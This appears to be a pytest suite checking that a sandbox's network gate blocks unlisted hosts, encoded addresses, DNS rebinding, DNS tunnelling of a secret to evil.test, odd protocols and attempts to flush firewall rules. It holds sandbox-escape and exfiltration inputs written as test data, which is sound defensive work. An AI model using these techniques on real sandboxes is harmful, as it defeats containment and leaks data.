"""Rows I: which names and addresses of the internet are reached, by whatever they are called."""

import pytest

from network import nbox, net, refused, row, wait_until, zone

HOSTS = ["ok.test", "*.api.ok.test"]


@row("I1")
@pytest.mark.parametrize("port", [80, 443, zone.RAW, 22])
def test_addresses_that_no_name_stands_for(nbox, net, port):
    """Proxy variables have nothing to do with it: there are none."""
    nbox.network(internet=HOSTS)
    steps = [{"do": "connect", "host": a, "port": port}
             for a in (zone.EVIL, zone.EVIL6, zone.OK, zone.OK6)]
    # A client may learn that it is refused from the first byte only, so it sends one.
    send = [{**s, "do": "raw", "send": "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n", "half": True}
            for s in steps]
    outside = nbox.probe(*steps, outside=True)
    assert all("value" in said for said in outside), outside
    since = net.mark()
    inside = nbox.probe(*send)
    for said in inside:
        assert refused(said) or "ok GET" not in said["value"]["data"], said
        assert said["ms"] < 1000
    assert since.reached() == set() and since.events(event="accept") == []


@row("I1")
def test_a_granted_address(nbox, net):
    """An address in `hosts` is that address, with no name needed, and no other."""
    nbox.network(internet=[zone.OK, zone.OK6])
    good = [{"do": "http", "host": zone.OK, "port": 80}, {"do": "http", "host": zone.OK6, "port": 80,
                                                          "host_field": f"[{zone.OK6}]"},
            {"do": "http", "host": zone.OK, "port": 443, "tls": True, "sni": ""}]
    for said in nbox.probe(*good):
        assert said["value"]["status"] == 200, said
    since = net.mark()
    for said in nbox.probe({"do": "http", "host": zone.OTHER, "port": 80},
                           {"do": "http", "host": zone.OK, "port": 80, "host_field": "evil.test"}):
        assert refused(said) or said["value"]["status"] in (0, 400, 403, 421), said
    assert since.reached(zone.OTHER) == set() and since.requests() == []


# Ways to write an address that a careless check takes for a name, or for another address.
ODD_ADDRESSES = ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0", "017700000001",
                 "1572394818", "0x5db8d742", "93.184.55106", "93.184.215.0102", "[::ffff:5db8:d742]"]


@row("I2")
def test_odd_ways_to_write_an_address(nbox, net):
    """1572394818 and its kin are EVIL's. libc makes addresses of them; those of 127.0.0.1 lead to
    the sandbox's own loopback, where nobody listens."""
    assert zone.EVIL == "93.184.215.66"
    nbox.network(internet=HOSTS)
    calls = [{"do": "raw", "host": a.strip("[]"), "port": 80, "half": True,
              "send": "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"} for a in ODD_ADDRESSES]
    fields = [{"do": "http", "host": "ok.test", "port": 80, "host_field": a} for a in ODD_ADDRESSES]
    names = [{"do": "tls", "host": "ok.test", "port": 443, "sni": a, "verify": False}
             for a in ODD_ADDRESSES if "[" not in a and not a[0].isdigit()]
    outside = nbox.probe(*calls, outside=True)
    assert sum("ok GET" in said.get("value", {}).get("data", "") for said in outside) >= 8, outside
    assert all(s["value"]["status"] == 200 for s in nbox.probe(*fields, outside=True))
    since = net.mark()
    inside = nbox.probe(*calls, *fields, *names)
    for said in inside[:len(calls)]:
        assert refused(said) or "ok GET" not in said["value"]["data"], said
    for said in inside[len(calls):len(calls) + len(fields)]:
        assert said["value"]["status"] in (400, 403), said
    assert since.requests() == [] and since.reached(zone.EVIL, zone.EVIL6) == set()


@row("I5")
def test_what_an_entry_matches(nbox, net):
    """Upper case and one dot at the end are the same name; nothing else is."""
    nbox.network(internet=["OK.test", "*.api.ok.test"])
    good = ["ok.test", "OK.test", "ok.test.", "x.api.ok.test", "Y.X.api.ok.test"]
    bad = ["evil.test", "evilok.test", "ok.test.evil.test", "api.ok.test", "evilapi.ok.test", "test",
           "okxtest", "ok.test.."]
    for said in nbox.probe(*({"do": "http", "host": h, "port": 80, "path": "/m"} for h in good)):
        assert said["value"]["status"] == 200, said
    outside = nbox.probe(*({"do": "lookup", "host": h} for h in bad[:-1]), outside=True)
    assert all("value" in said for said in outside), outside
    since = net.mark()
    for said in nbox.probe(*({"do": "http", "host": h, "port": 80} for h in bad)):
        assert refused(said), said
    # The same names where a granted one was called.
    fields = [*bad, "a..ok.test", ".ok.test", "ok.test.evil.test.", "-", "*", "*.api.ok.test"]
    for said in nbox.probe(*({"do": "http", "host": "ok.test", "port": 80, "host_field": h}
                             for h in fields)):
        assert said["value"]["status"] in (400, 403, 421), said
    assert since.requests() == [] and since.queries() <= {"ok.test"}


@row("I17")
@pytest.mark.parametrize("names", [["*"], None])
def test_public_names_with_other_addresses(nbox, net, names):
    """A name says nothing of where it leads: the address that is dialled is judged."""
    kinds = ["private", "ula", "shared", "linklocal", "range", "loop", "loop6", "zero", "own",
             "ownpublic", "ownpublic6", "meta", "meta2", "meta6", "multicast", "broadcast", "mapped",
             "nat64", "sixtofour", "compatible", "fake", "documentation"]
    hosts = [f"{kind}.test" for kind in kinds]
    nbox.network(internet=names or hosts)
    outside = {h: nbox.probe({"do": "connect", "host": h, "port": 80, "timeout": 0.2}, outside=True)[0]
               for h in hosts[:15]}
    reach = {h for h, said in outside.items() if "value" in said}
    assert len(reach) >= 13, outside
    for port, tls in ((80, False), (443, True)):
        since = net.mark()
        for host, said in zip(hosts, nbox.probe(*({"do": "http", "host": h, "port": port, "tls": tls}
                                                  for h in hosts))):
            assert refused(said) or said["value"]["status"] == 403, (host, said)
            assert said["ms"] < 2000, (host, said)
        assert since.reached() == set() and since.events(event="accept") == []


@row("I17")
def test_a_name_with_a_public_and_a_private_address(nbox, net):
    nbox.network(internet=["mixed.test"])
    since = net.mark()
    said, = nbox.probe({"do": "http", "host": "mixed.test", "port": 80, "path": "/mixed"})
    assert said["value"]["status"] == 200, said
    assert since.reached() == {(zone.OK, 80)}


@row("I17")
def test_an_answer_that_changes(nbox, net):
    """The address that was judged is the one that is dialled, whatever the next answer is. (The
    sandbox's program may make the gate look a name up as often as it likes.)"""
    nbox.network(internet=["flip.test", "flipback.test"])
    since = net.mark()
    call = [{"do": "http", "host": host, "port": 80, "path": "/flip"}
            for host in ("flip.test", "flipback.test")]
    for said in nbox.probe(*(call * 10)):
        assert refused(said) or said["value"]["status"] in (200, 403), said
    assert since.reached() <= {(zone.OK, 80)}
    assert {e["at"] for e in since.events(event="accept")} <= {f"{zone.OK} 80"}
    # Outside, somebody does get to this machine's own server that way.
    outside = nbox.probe({"do": "http", "host": "flip.test", "port": 80}, outside=True)
    assert outside[0]["value"]["status"] == 200
    assert wait_until(lambda: since.events(event="request", at="127.0.0.1 80"))


@row("I17")
def test_an_alias(nbox, net):
    """A granted name that is an alias leads where its own owner says: to a public address."""
    nbox.network(internet=["goodalias.test"])
    said = nbox.probe({"do": "http", "host": "goodalias.test", "port": 80},
                      {"do": "http", "host": "goodalias.test", "port": 80, "host_field": "ok.test"})
    assert said[0]["value"]["status"] == 200
    assert said[1]["value"]["status"] in (403, 421)


@row("I18")
def test_names_are_no_way_out(nbox, net):
    """A secret in a name that is looked up, by every type of query and every server."""
    nbox.network(internet=HOSTS)
    secret = "s3cr3t"
    kinds = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33,
             "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "CAA": 257, "65280": 65280}
    servers = ["127.0.0.1", zone.NAME_SERVER, "8.8.8.8", "::1", zone.EVIL6]
    steps = [{"do": "dns", "name": f"{secret}.{kind}.{below}", "kind": number, "server": server}
             for kind, number in kinds.items() for below in ("evil.test", "ok.test")
             for server in servers[1:3]]
    steps += [{"do": "dns", "name": f"{secret}.evil.test", "server": s, "tcp": tcp}
              for s in servers for tcp in (False, True)]
    outside = nbox.probe({"do": "dns", "name": f"{secret}.evil.test", "server": zone.NAME_SERVER},
                         {"do": "dns", "name": f"{secret}.evil.test", "server": zone.NAME_SERVER,
                          "tcp": True}, outside=True)
    assert [said["value"]["rcode"] for said in outside] == [3, 3]
    since = net.mark()
    for step, said in zip(steps, nbox.probe(*steps)):
        assert said["value"]["rcode"] in (3, 4, 5) and said["value"]["counts"][1] == 0, (step, said)
    assert since.leaked(secret) == [] and since.packets() == []


@row("I18")
def test_queries_of_granted_names_of_other_types(nbox, net):
    """A granted name gets an address of ours and nothing more: no query of the program's leaves."""
    nbox.network(internet=HOSTS)
    since = net.mark()
    steps = [{"do": "dns", "name": "ok.test", "kind": kind} for kind in (15, 16, 33, 64, 65, 255, 257)]
    for said in nbox.probe(*steps):
        assert said["value"]["rcode"] in (0, 4, 5), said
        assert said["value"]["counts"][1] <= 1 and "\xfe\x0d" not in said["value"]["raw"], said
    types = {e["type"] for e in since.events(event="query")}
    assert types <= {1, 28}, types


@row("I18")
def test_dig_and_dns_over_tls(nbox, net):
    nbox.network(internet=["*"])
    since = net.mark()
    dig = nbox.sh(f"dig +time=2 +tries=1 +short $(echo s3cr3t).evil.test @{zone.NAME_SERVER}; "
                  f"dig +time=2 +tries=1 +tcp +short other.test @{zone.NAME_SERVER}")
    # "*" grants names that exist: what is asked then is their address, and by the gate itself.
    assert dig.out.startswith("198.1"), dig
    assert since.queries() <= {"s3cr3t.evil.test", "other.test"}
    # Port 853, and any other but 80 and 443, is closed without a line in `tcp`.
    for said in nbox.probe({"do": "raw", "host": "ok.test", "port": 853, "half": True},
                           {"do": "raw", "host": zone.NAME_SERVER, "port": 853, "half": True}):
        assert refused(said) or (said["value"]["data"] == "" and said["ms"] < 1000), said
    assert not any(port == 853 for _, port in since.reached())
    outside, = nbox.probe({"do": "connect", "host": "ok.test", "port": 853}, outside=True)
    assert "value" in outside


@row("I19")
def test_datagrams_and_other_protocols(nbox, net):
    """QUIC's port, ICMP, SCTP, raw sockets: refused at once, so that clients fall back."""
    nbox.network(internet=["*"], lan=["*"], ports=[zone.LOCAL_WEB])
    calls = [{"do": "datagram", "host": h, "port": p}
             for h in ("ok.test", zone.OK, zone.OK6, zone.FAR4) for p in (443, 123, 5353)]
    sockets = [{"do": "socket", "family": f, "type": t, "proto": p} for f in (2, 10)
               for t, p in ((1, 132), (5, 132), (1, 262), (3, 1), (3, 58), (2, 136), (3, 255), (6, 33))]
    ping = [{"do": "socket", "family": 2, "type": 2, "proto": 1}]
    outside = nbox.probe(calls[0], {"do": "socket", "family": 2, "type": 1, "proto": 262},
                         outside=True)
    assert [said.get("value") for said in outside] == ["x", "made"], outside
    since = net.mark()
    inside = nbox.probe(*calls, *sockets)
    for said in inside[:len(calls)]:
        assert said.get("error") in ("EPERM", "ECONNREFUSED", "EHOSTUNREACH") and said["ms"] < 200, said
    for said in inside[len(calls):]:
        assert "error" in said, said
    for said in nbox.probe(*ping):
        # A ping socket may be made where the machine allows it; what it sends goes nowhere.
        assert said.get("error") or said["value"] == "made"
    assert nbox.sh(f"ping -c1 -W1 {zone.OK}").rc != 0
    assert {p["port"] for p in since.packets()} <= {53} and since.events(event="datagram") == []


@row("I20")
def test_other_ways_to_connect(nbox, net):
    """Data in the first packet, and multipath TCP, are judged like any call."""
    nbox.network(internet=HOSTS)
    ask = "GET /fast HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
    outside, = nbox.probe({"do": "fastopen", "host": zone.EVIL, "port": 80, "send": ask}, outside=True)
    assert "ok GET /fast" in outside.get("value", {}).get("data", ""), outside
    since = net.mark()
    said, mptcp = nbox.probe({"do": "fastopen", "host": zone.EVIL, "port": 80, "send": ask},
                             {"do": "socket", "family": 2, "type": 1, "proto": 262})
    assert refused(said) or "ok GET" not in said["value"]["data"], said
    assert mptcp.get("error"), mptcp
    assert since.reached() == set()


@row("I21")
def test_the_gates_own_port(nbox, net):
    """A call to the listener itself, and to the names' own addresses that nobody was given."""
    nbox.network(internet=["*"], lan=["*"], ports=[zone.LOCAL_WEB])
    ports = nbox.probe({"do": "listeners"})[0]["value"]
    assert ports, "the gate's listener is there to be seen"
    since = net.mark()
    steps = [{"do": "http", "host": host, "port": port} for port in ports + [80]
             for host in ("127.0.0.1", "::1", "198.18.0.1", "198.18.77.77", "fd6c:6e6b::1")]
    for step, said in zip(steps, nbox.probe(*steps)):
        assert "value" not in said or said["value"]["status"] in (0, 400, 403), (step, said)
        assert said["ms"] < 2000, (step, said)
    assert since.reached() == set() and since.events(event="accept") == []


@row("I23")
def test_the_rules_are_out_of_reach(nbox, net):
    nbox.network(internet=HOSTS)
    attack = ("nft flush ruleset; nft list ruleset; ip addr add 10.77.0.99/24 dev lo; "
              "ip route replace default dev lo; ip link set lo down; ip link add d0 type dummy; "
              "unshare -n true; echo 0 >/proc/sys/net/ipv4/ip_forward; echo end")
    before = nbox.run("ip", "-o", "addr")
    seen = nbox.sh("PATH=$PATH:/usr/sbin:/sbin; " + attack)
    assert seen.lines[-1:] == ["end"] and "table" not in seen.out, seen
    assert "lnk" not in seen.out
    assert nbox.run("ip", "-o", "addr").out == before.out
    # Where one has the right, the same commands do it.
    there = nbox.outside("unshare", "--user", "--map-root-user", "--net", "sh", "-c",
                         "PATH=$PATH:/usr/sbin:/sbin; nft add table ip t; nft list ruleset; "
                         "nft flush ruleset; nft list ruleset; echo end")
    assert there.lines == ["table ip t {", "}", "end"], there
    # And after the attack the calls are judged as before, in the same sandbox.
    seen = nbox.sh("PATH=$PATH:/usr/sbin:/sbin; nft flush ruleset 2>/dev/null; "
                   "curl -sS --max-time 5 http://ok.test/still; curl -sS --max-time 5 http://evil.test/")
    assert seen.out.startswith("ok GET /still") and seen.out.count("ok GET") == 1, seen
